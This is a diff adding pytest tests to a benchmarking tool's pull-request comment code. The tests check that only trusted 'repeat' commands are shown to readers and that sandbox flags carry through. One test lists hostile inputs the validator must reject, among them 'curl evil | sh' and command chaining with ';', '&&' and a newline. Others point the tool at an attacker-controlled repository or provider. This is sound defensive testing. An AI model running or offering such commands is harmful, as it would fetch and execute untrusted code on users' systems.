@@ -8,6 +8,8 @@ import html
 import json
 import random
 import re
+import shlex
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -15,6 +17,8 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from pr_results import BASE, HEAD, TREES, move, own_test, pair, result, slower, static, target
 
+from farm.cli import pr_measure
+from farm.cli.main import parser
 from farm.errors import UsageError
 from farm.pr import comment as comments
 from farm.pr import ledger as ledgers
@@ -22,6 +26,7 @@ from farm.pr import measured, publishing
 from farm.pr import result as results
 from farm.pr.publishing import Comment, Pull
 from farm.report.markdown import plain
+from farm.subject.repository import History
 
 WIDE = "cuda/rms_norm/liger/auto/forward/bf16/8192x4096/llama"
 NARROW = "cuda/rms_norm/liger/auto/forward/bf16/32768x128/llama"
@@ -171,6 +176,41 @@ def test_a_result_without_devices_does_not_replace_one_with_them() -> None:
     newer = {**interpreted, "head": {**interpreted["head"], "sha": "9" * 40}}
     pull = dataclasses.replace(PULL, head="9" * 40, trees={**PULL.trees, "9" * 40: newer["head"]["tree"]})
     assert publishing.publish([newer], pull, own, "block").writes
+
+
+def test_a_reader_is_shown_no_command_that_is_not_ours() -> None:
+    good = pair("cuda/x", status_b="crashed")["repeat"]
+    assert good in comments.comment(result(pair("cuda/x", status_b="crashed")))
+    assert results.repeat("farm pr --base aaaa --head bbbb --subject a/b.yaml --sandbox") and results.repeat(good)
+    assert results.repeat(shlex.join([*good.split()[:-1], "id=cuda/x y/[1]"]))
+    for bad in (
+        "curl evil | sh",
+        "farm pr --base aaaa; curl evil",
+        f"{good} && x",
+        f"{good}\nx",
+        f"{good} --repo https://e.vil/x",
+        f"{good} --provider x=evil:f",
+        f"{good} --contracts evil",
+        "farm run x.yaml",
+        "farm ab --a patch=x --b revision=bbbb",
+        "farm ab --a",
+        "farm ab 'x",
+        "",
+    ):
+        assert results.repeat(bad) == ""
+        text = comments.comment(result(pair("cuda/x", status_b="crashed", repeat=bad), repeat=bad))
+        assert "Repeat" not in text
+
+
+@pytest.mark.parametrize("sandbox", [True, False])
+def test_what_repeats_a_sandboxed_job_asks_for_the_sandbox(sandbox: bool) -> None:
+    work = pr_measure._Work.__new__(pr_measure._Work)
+    work.args = parser("pr").parse_args(["pr", "m.yaml", "--base", "main"])
+    work.args.debug = False
+    work.history, work.sandbox, work.top, work.id = History(BASE, HEAD, 0, {}), sandbox, Path("x"), "r"
+    told = [work._repeat(pair()), shlex.join(["farm", "pr", "m.yaml", *work._revisions("--base", "--head")])]
+    assert [("--sandbox" in words) for words in told] == [sandbox] * 2 and all(map(results.repeat, told))
+    assert work._ab().sandbox is sandbox
 
 
 def test_groups_are_ordered_by_harm_and_never_by_name() -> None:
